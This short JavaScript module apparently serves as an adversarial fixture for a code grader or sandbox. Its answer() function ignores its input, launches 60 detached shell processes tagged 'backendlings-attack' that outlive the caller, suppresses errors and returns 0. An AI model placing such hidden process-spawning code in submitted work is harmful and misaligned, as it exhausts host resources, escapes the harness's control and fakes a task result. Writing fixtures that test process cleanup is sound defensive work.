import { spawn } from "node:child_process";

export function answer(n) {
  for (let number = 0; number < 60; number++) {
    spawn("sh", ["-c", "sleep 60; :", "backendlings-attack"], { detached: true, stdio: "ignore" }).on("error", () => {});
  }
  return 0;
}
export const other = () => 7;
